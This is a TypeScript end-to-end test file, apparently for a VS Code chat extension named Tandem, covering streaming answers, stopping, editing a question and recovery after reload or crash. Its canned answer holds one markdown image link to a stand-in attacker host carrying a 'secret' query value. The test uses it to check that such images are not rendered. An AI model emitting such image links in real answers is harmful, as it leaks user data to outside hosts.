/** A person asks, watches the answer come, stops it, changes the question, and finds everything after a reload. */

import assert from 'node:assert/strict';

import type { Frame } from 'playwright-core';

import { extensionHosts } from '../scripts/extensionHost.ts';
import { openFile, runCommand, webviewFrame } from '../scripts/realEditor.ts';
import { startStandIn, type Answerer } from '../servers/standIn.ts';
import { vllm } from '../servers/vllm.ts';
import { editorText, inEditor, untilStatusBar, type Journey, type JourneyEditor } from './journey.ts';

const answerText = [
  'The price is **rounded once**, in `src/orders.ts:3`.',
  '',
  '```ts path=src/orders.ts',
  'export function rounded(value: number): number {',
  '  return Math.round(value);',
  '}',
  '```',
  '',
  'Look at [the guide](https://example.com/guide) ![pixel](https://evil.test/p.png?secret=1).',
  '',
].join('\n');

const answering =
  (text: string, delayMs: number): Answerer =>
  (asked) =>
    asked.task === 'chat' ? (text.match(/\S+\s*/g) ?? []).map((word) => ({ text: word, delayMs })) : [];

/** The chat view, opened by its command. */
export async function openChat({ page }: JourneyEditor): Promise<Frame> {
  await runCommand(page, 'Tandem: Focus Chat');
  const frame = await webviewFrame(page, 'textarea[aria-label="Ask Tandem"]');
  await frame.getByRole('textbox', { name: 'Ask Tandem' }).waitFor();
  return frame;
}

export async function ask(frame: Frame, question: string): Promise<void> {
  await frame.getByRole('textbox', { name: 'Ask Tandem' }).fill(question);
  await frame.getByRole('button', { name: 'Send', exact: true }).click();
}

const conversation: Journey = {
  title: 'asks, reads the answer, inserts its code, changes the question, reloads',
  run: async () => {
    const server = await startStandIn(vllm, { answer: answering(answerText, 20) });
    try {
      await inEditor({ name: 'chat', settings: { 'tandem.server.url': server.url } }, async (editor) => {
        const { page } = editor;
        await untilStatusBar(editor, /ready$/);
        await openFile(page, 'orders.ts');
        let frame = await openChat(editor);
        await editor.screenshot('chat-empty');

        await frame
          .getByRole('textbox', { name: 'Ask Tandem' })
          .pressSequentially('Where is it rounded? @cata');
        await frame
          .getByRole('option', { name: /catalog\.ts/ })
          .first()
          .waitFor();
        await editor.screenshot('chat-mention');
        await page.keyboard.press('Enter');
        await frame.getByText('src/catalog.ts').first().waitFor();
        await frame.getByRole('button', { name: 'Send', exact: true }).click();
        await frame.getByRole('button', { name: 'Stop' }).waitFor();
        await frame.getByRole('button', { name: 'Send', exact: true }).waitFor({ timeout: 20_000 });
        const article = frame.locator('article[data-route="local"]');
        assert.equal(await article.count(), 1);
        assert.match((await article.textContent()) ?? '', /rounded once/);
        assert.equal(await frame.locator('img').count(), 0);
        await editor.screenshot('chat-answer');
        const question = server.requests
          .filter((request) => request.path.endsWith('/chat/completions'))
          .at(-1);
        assert.match(JSON.stringify(question?.body), /Lapsang/);

        await frame.getByRole('button', { name: 'Insert at cursor' }).click();
        await page.waitForTimeout(500);
        assert.match(await editorText(editor), /function rounded/);

        await frame.getByRole('button', { name: 'Edit and ask again' }).click();
        await frame.getByRole('textbox', { name: 'Edit and ask again' }).fill('And where is it not rounded?');
        await frame.getByRole('button', { name: 'Save' }).click();
        await frame.getByText('2/2').waitFor();
        // Figures stand below an answer that is complete.
        await frame.locator('article .figures').waitFor({ timeout: 20_000 });
        await editor.screenshot('chat-branch');

        await page.reload();
        await page.waitForSelector('.monaco-workbench');
        await untilStatusBar(editor, /ready$/);
        frame = await openChat(editor);
        await frame.getByText('And where is it not rounded?').first().waitFor();
        await frame.locator('article').getByText('rounded once').waitFor();
        await frame.getByRole('button', { name: 'Previous version' }).click();
        await frame.getByText('Where is it rounded?').first().waitFor();
        await editor.screenshot('chat-reloaded');
      });
    } finally {
      await server.close();
    }
  },
};

const midAnswer: Journey = {
  title:
    'finds what was streamed when the window was reloaded or its extension host died in mid-answer, and stops another answer',
  run: async () => {
    const long = Array.from({ length: 400 }, (_, at) => `word${at} `).join('');
    const server = await startStandIn(vllm, { answer: answering(long, 60) });
    try {
      await inEditor({ name: 'chat-mid', settings: { 'tandem.server.url': server.url } }, async (editor) => {
        const { page } = editor;
        await untilStatusBar(editor, /ready$/);
        let frame = await openChat(editor);
        await ask(frame, 'Count for me');
        await frame.locator('article').getByText('word20').waitFor({ timeout: 20_000 });
        await page.reload();
        await page.waitForSelector('.monaco-workbench');
        await untilStatusBar(editor, /(ready|working)$/);
        frame = await openChat(editor);
        await frame.locator('article').getByText('word20').waitFor({ timeout: 20_000 });
        await frame
          .locator('article')
          .getByText(/Interrupted|Stopped/)
          .waitFor();
        await editor.screenshot('chat-interrupted');

        await frame.getByRole('button', { name: 'Ask again', exact: true }).click();
        await frame.locator('article').getByText('word5').waitFor({ timeout: 20_000 });
        await frame.getByRole('button', { name: 'Stop' }).click();
        await frame.getByText('Stopped.').waitFor();
        await editor.screenshot('chat-stopped');
        if (process.platform === 'linux') await survivesCrash(editor, frame);
      });
    } finally {
      await server.close();
    }
  },
};

/** The extension host dies in mid-answer; the window is opened anew. Only Linux tells which process it is. */
async function survivesCrash(editor: JourneyEditor, frame: Frame): Promise<void> {
  await ask(frame, 'Count once more');
  await frame.locator('article').last().getByText('word20').waitFor({ timeout: 20_000 });
  const hosts = await extensionHosts(editor.server.dataFolder);
  assert.ok(hosts.length > 0, 'there is an extension host');
  for (const id of hosts) process.kill(id, 'SIGKILL');
  await editor.page.reload();
  await untilStatusBar(editor, /(ready|working)$/);
  const again = await openChat(editor);
  await again.getByText('Count once more').first().waitFor({ timeout: 20_000 });
  await again.locator('article').last().getByText('word20').waitFor({ timeout: 20_000 });
  await editor.screenshot('chat-crashed');
}

export const journeys: readonly Journey[] = [conversation, midAnswer];
